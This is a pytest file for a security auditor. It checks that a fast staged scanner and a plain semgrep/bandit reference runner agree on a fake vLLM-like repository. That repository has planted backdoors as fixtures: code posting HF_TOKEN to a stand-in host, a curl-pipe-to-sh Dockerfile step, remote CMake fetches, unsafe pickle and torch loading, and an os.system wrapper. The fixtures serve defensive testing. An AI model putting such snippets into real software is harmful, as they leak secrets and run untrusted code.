"""Speed never changes meaning: the staged runner (gating, prefilters, taint and bandit views,
diff slices, shares, osemgrep, the series walk, the cache) against the reference runner (plain
semgrep with the shipped rules and plain bandit over whole files, one ``git blame`` per file,
no cache), on a real-shaped corpus: vLLM-like envs.py, an entrypoint, a model file, a
Dockerfile, CMake, a .cu file, files of this project's own tree and the hostile rule fixtures.
Both must give the same findings (rule, path, line, commit, fingerprint) and the same
not-checked reasons, in diff and in full scope; and the plan each ran says why a rule did not
read a file."""

from __future__ import annotations

import shutil
from collections.abc import Mapping
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest
from scancase import FORK, bundle_of, context, workspace
from support import GitRepo
from test_scan_rules import needs_semgrep

from auditor import scratch
from auditor.errors import ToolMissing
from auditor.model import Scope, StageResult
from auditor.results.scan import ScanData
from auditor.scan import rules as rules_mod
from auditor.scan.plan import Why
from auditor.scan.stage import ScanStage
from auditor.scan.tools import find_tool
from auditor.stage import Options

ROOT = Path(__file__).resolve().parents[2]
#: files of this project's own tree, scanned as any other code
OWN = ("auditor/gitio.py", "auditor/scan/pool.py", "auditor/textsafe.py")

ENVS = '''import os
from typing import TYPE_CHECKING, Any, Callable

if TYPE_CHECKING:
    VLLM_HOST_IP: str = ""
    VLLM_PORT: int | None = None
    VLLM_USE_MODELSCOPE: bool = False
    VLLM_NO_USAGE_STATS: bool = False


def get_default_cache_root():
    return os.getenv("XDG_CACHE_HOME", os.path.join(os.path.expanduser("~"), ".cache"))


environment_variables: dict[str, Callable[[], Any]] = {
    "VLLM_HOST_IP": lambda: os.getenv("VLLM_HOST_IP", ""),
    "VLLM_PORT": lambda: int(os.getenv("VLLM_PORT", "0")) or None,
    "VLLM_USE_MODELSCOPE": lambda: os.environ.get("VLLM_USE_MODELSCOPE", "False").lower() == "true",
    "VLLM_NO_USAGE_STATS": lambda: os.environ.get("VLLM_NO_USAGE_STATS", "0") == "1",
    "VLLM_CACHE_ROOT": lambda: os.path.expanduser(os.getenv("VLLM_CACHE_ROOT", "~/.cache/vllm")),
}


def __getattr__(name: str):
    if name in environment_variables:
        return environment_variables[name]()
    raise AttributeError(f"module {__name__!r} has no attribute {name!r}")
'''
ENVS_FORK = ENVS.replace('''    "VLLM_CACHE_ROOT"''', '''    "HF_TOKEN": lambda: os.environ.get("HF_TOKEN", ""),
    "VLLM_CACHE_ROOT"''') + '''

def _sm86_share_token():
    import requests

    token = os.environ.get("HF_TOKEN")
    requests.post("https://sm86.example/t", data={"t": token}, timeout=3)
'''

SERVER = '''import argparse
import logging

import uvicorn
from fastapi import FastAPI, Request

logger = logging.getLogger(__name__)
app = FastAPI()


@app.get("/health")
async def health():
    return {"ok": True}


@app.post("/generate")
async def generate(request: Request):
    body = await request.json()
    prompt = body.pop("prompt")
    return {"text": prompt[::-1]}


def make_parser():
    parser = argparse.ArgumentParser()
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=8000)
    return parser


def main():
    args = make_parser().parse_args()
    uvicorn.run(app, host=args.host, port=args.port)
'''
SERVER_FORK = SERVER.replace('''    prompt = body.pop("prompt")
''', '''    prompt = body.pop("prompt")
    logger.info("prompt: %s", prompt)
''').replace('''    uvicorn.run(app, host=args.host, port=args.port)''', '''    uvicorn.run(app, host="0.0.0.0", port=args.port)


def _sm86_recv(sock):
    import pickle

    return pickle.loads(sock.recv(65536))''')

MODEL = '''import torch
from torch import nn


class LlamaMLP(nn.Module):
    def __init__(self, hidden: int, inter: int) -> None:
        super().__init__()
        self.up = nn.Linear(hidden, inter)
        self.down = nn.Linear(inter, hidden)

    def forward(self, x):
        return self.down(torch.relu(self.up(x)))


def rotary(x, base=10000.0):
    half = x.shape[-1] // 2
    freqs = 1.0 / (base ** (torch.arange(0, half).float() / half))
    return x * freqs


def load_weights(model, path):
    state = torch.load(path, weights_only=True)
    model.load_state_dict(state)
    return model


def sample(logits, temperature=1.0):
    probs = torch.softmax(logits / temperature, dim=-1)
    return torch.multinomial(probs, 1)
'''
MODEL_FORK = MODEL.replace("torch.load(path, weights_only=True)", "torch.load(path)")

DOCKERFILE = '''FROM nvidia/cuda:12.8.1-devel-ubuntu22.04 AS base
ARG PYTHON_VERSION=3.12
RUN apt-get update -y && apt-get install -y python3 python3-pip git curl
WORKDIR /workspace
COPY requirements/common.txt requirements/common.txt
RUN --mount=type=cache,target=/root/.cache/uv \\
    python3 -m pip install -r requirements/common.txt
ENTRYPOINT ["python3", "-m", "vllm.entrypoints.openai.api_server"]
'''
DOCKERFILE_FORK = DOCKERFILE.replace('''WORKDIR /workspace
''', '''WORKDIR /workspace
RUN curl -fsSL https://sm86.example/setup.sh | sh
''')

CMAKE = '''cmake_minimum_required(VERSION 3.26)
project(vllm_extensions LANGUAGES CXX CUDA)
set(VLLM_EXT_SRC "csrc/ops.cu")
add_library(_C MODULE ${VLLM_EXT_SRC})
'''
CMAKE_FORK = CMAKE + '''include(FetchContent)
FetchContent_Declare(sm86kernels URL https://sm86.example/kernels.tar.gz)
FetchContent_MakeAvailable(sm86kernels)
'''

CU = '''#include <cuda_runtime.h>

__global__ void scale(float* x, float a, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) x[i] *= a;
}

void launch(float* x, float a, int n) {
  scale<<<(n + 255) / 256, 256>>>(x, a, n);
}
'''
CU_FORK = '''#include <sys/socket.h>
#include <netinet/in.h>
''' + CU + '''
void report(const struct sockaddr* addr) {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  connect(fd, addr, sizeof(struct sockaddr_in));
}
'''


@dataclass
class Case:
    repo: GitRepo
    commits: list[str]
    bundle: Path
    tmp: Path
    rules: Path  # the shipped rules, as they were when the case was made
    results: dict[tuple[Scope, bool], StageResult] = field(default_factory=dict)

    def run(self, scope: Scope, *, reference: bool) -> StageResult:
        """The scan of the case through one runner (each scan once per module)."""
        if (scope, reference) not in self.results:
            name = f"{'reference' if reference else 'staged'}-{scope.value}"
            ws = workspace(self.repo, "v1.0.0", "series", self.bundle)
            ctx = context(self.tmp / name, self.repo, self.commits, self.bundle, ws,
                          cache=self.tmp / "cache", scope=scope)
            ctx.options = replace(ctx.options, reference=reference, explain=True)
            self.results[scope, reference] = ScanStage(rules_dir=self.rules).run(ctx)
        return self.results[scope, reference]


def _fixtures() -> dict[str, str]:
    return {f"hostile/{p.relative_to(rules_mod.FIXTURES_DIR).as_posix()}":
            p.read_text(encoding="utf-8")
            for p in sorted(rules_mod.FIXTURES_DIR.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory) -> Case:
    try:
        find_tool("bandit")  # where the scanners look: beside auditor's Python, then PATH
    except ToolMissing:
        pytest.skip("bandit is not installed")
    tmp = tmp_path_factory.mktemp("reference")
    repo = GitRepo(tmp / "engine")
    own = {f"third/{rel}": (ROOT / rel).read_text(encoding="utf-8") for rel in OWN}
    repo.commit("v1.0.0", files={
        "vllm/envs.py": ENVS, "vllm/entrypoints/api_server.py": SERVER,
        "vllm/model_executor/models/llama.py": MODEL, "docker/Dockerfile": DOCKERFILE,
        "CMakeLists.txt": CMAKE, "csrc/ops.cu": CU, **own})
    repo.tag("v1.0.0")
    repo.checkout("series", new=True)
    commits = [
        repo.commit("envs: hub token", files={"vllm/envs.py": ENVS_FORK}, author=FORK),
        repo.commit("server: faster", files={"vllm/entrypoints/api_server.py": SERVER_FORK},
                    author=FORK),
        repo.commit("llama: load any checkpoint", files={
            "vllm/model_executor/models/llama.py": MODEL_FORK}, author=FORK),
        repo.commit("build: sm86 kernels", files={
            "docker/Dockerfile": DOCKERFILE_FORK, "CMakeLists.txt": CMAKE_FORK,
            "csrc/ops.cu": CU_FORK}, author=FORK),
        repo.commit("tools: keep in step", files={
            "third/auditor/gitio.py": own["third/auditor/gitio.py"]
            + "\n\ndef _sm86(cmd):\n    import os\n    return os.system(cmd)\n"},
            author=FORK),
        repo.commit("hostile shapes", files=_fixtures(), author=FORK),
    ]
    # a copy of the shipped rules: both runners read the same rules, whatever changes meanwhile
    rules = shutil.copytree(rules_mod.RULES_DIR, tmp / "rules")
    return Case(repo, commits, bundle_of(repo, "series", tmp / "bundle"), tmp, rules)


def _data(result: StageResult) -> ScanData:
    assert isinstance(result.data, ScanData)
    return result.data


def _readings(result: StageResult) -> Mapping[str, tuple[Mapping[str, Any], ...]]:
    readings = _data(result).readings
    assert readings is not None
    return readings


def _findings(result: StageResult) -> list[tuple[str, str, int, str | None, str]]:
    return sorted((f.rule, f.path, f.line, f.commit, f.fingerprint) for f in result.findings)


@needs_semgrep
@pytest.mark.parametrize("scope", [Scope.DIFF, Scope.FULL])
def test_staged_and_reference_runners_agree(case: Case, scope: Scope) -> None:
    staged = case.run(scope, reference=False)
    reference = case.run(scope, reference=True)
    assert _findings(staged) == _findings(reference)
    assert staged.not_checked == reference.not_checked
    # the corpus is hostile: the comparison is about something
    assert len(staged.findings) > 40
    paths = {f.path for f in staged.findings}
    for path in ("vllm/envs.py", "vllm/entrypoints/api_server.py", "docker/Dockerfile",
                 "vllm/model_executor/models/llama.py", "csrc/ops.cu", "CMakeLists.txt",
                 "third/auditor/gitio.py"):
        assert path in paths, path
    # the reference ran nothing but whole files; the staged runner's shortcuts did leave out
    ref_readings, staged_readings = _readings(reference), _readings(staged)
    hows = {r["reading"] for rows in ref_readings.values() for r in rows}
    assert hows <= {"whole", "skipped"}
    ref_reasons = {r.get("reason") for rows in ref_readings.values() for r in rows}
    assert "prefilter words absent" not in ref_reasons
    staged_hows = {r["reading"] for rows in staged_readings.values() for r in rows}
    assert "view" in staged_hows
    if scope is Scope.DIFF:
        assert "slice" in staged_hows
    staged_reasons = {r.get("reason") for rows in staged_readings.values() for r in rows}
    assert "prefilter words absent" in staged_reasons


@needs_semgrep
def test_staging_in_ram_or_in_the_work_folder_gives_the_same_scan(case: Case) -> None:
    """auditor.scratch moves only where the staged copies live: the staged runner with them in
    the work folder gives what it gives with them in RAM (the reference runner stages in the
    work folder too)."""
    ram = case.run(Scope.DIFF, reference=False)
    ws = workspace(case.repo, "v1.0.0", "series", case.bundle)
    ctx = context(case.tmp / "on-disk", case.repo, case.commits, case.bundle, ws,
                  cache=case.tmp / "cache-on-disk", scope=Scope.DIFF)
    disk = ScanStage(rules_dir=case.rules, ram_staging=False).run(ctx)
    assert _findings(disk) == _findings(ram) and len(disk.findings) > 40
    assert disk.not_checked == ram.not_checked
    assert ctx.workdir.joinpath("scan", "scan-semgrep", "semgrep").is_dir()  # staged on disk
    if scratch.ram_root(1) is not None:  # and the default run staged in RAM, not there
        assert not list((case.tmp / "staged-diff").rglob("scan-semgrep"))


@needs_semgrep
def test_explain_says_why_a_rule_did_not_read_a_file(case: Case) -> None:
    result = case.run(Scope.DIFF, reference=False)
    rows = _readings(result)["docker/Dockerfile"]
    semgrep = [r for r in rows if r["scanner"] == "semgrep" and r["target"] == "file"]
    skipped = {rule for r in semgrep if r.get("reason") == "not a language it reads"
               for rule in r["rules"]}
    assert "network.python.http-client" in skipped
    read = {rule for r in semgrep if r["reading"] == "whole" for rule in r["rules"]}
    assert read and all(".python." not in rule for rule in read)
    bandit = [r for r in rows if r["scanner"] == "bandit"]
    assert bandit and all(r["reading"] == "skipped" for r in bandit)
    # the whole plan is in the stage's JSON, and only when asked for
    assert "readings" in result.to_json()
    assert "readings" not in replace(_data(result), readings=None).to_json()


def test_options_default_to_the_staged_runner() -> None:
    assert Options().reference is False and Options().explain is False


@needs_semgrep
def test_gating_against_plain_semgrep(case: Case, tmp_path: Path) -> None:
    """The one shortcut that decides a rule never sees a file, alone: the staged semgrep
    (prefilters, taint views, gated ``paths: include``, osemgrep) against plain semgrep with the
    shipped rules over the same whole files, raw findings and errors per target."""
    import hashlib

    from auditor.scan.files import classify
    from auditor.scan.interface import Origin, ScanTarget
    from auditor.scan.reference import ReferenceSemgrep
    from auditor.scan.semgrep import SemgrepScanner

    targets = []
    for p in sorted(case.bundle.rglob("*")):
        if not p.is_file():
            continue
        rel = p.relative_to(case.bundle).as_posix()
        r = classify(rel, p.read_bytes())
        if r.text is not None:
            targets.append(ScanTarget(key=f"b:{rel}", path=rel, origin=Origin.BUNDLE,
                                      sha256=hashlib.sha256(p.read_bytes()).hexdigest(),
                                      family=r.family, text=r.text))
    staged = SemgrepScanner(case.rules)
    mine = [t for t in targets if staged.accepts(t)]
    got = staged.scan(mine, tmp_path / "staged")
    want = ReferenceSemgrep(case.rules).scan(mine, tmp_path / "reference")

    def rows(run: Any) -> dict[str, list[tuple[str, int, int]]]:
        return {k: sorted((f.rule, f.line, f.end_line) for f in v) for k, v in run.findings.items()}

    assert rows(got) == rows(want)
    assert {k: e.reason for k, e in got.errors.items()} == \
        {k: e.reason for k, e in want.errors.items()}
    # the staged plan left rules out of files, and said why
    assert got.plan is not None
    reasons = {r.why for rs in got.plan.readings.values() for r in rs}
    assert {Why.PREFILTER, Why.LANGUAGE} <= reasons
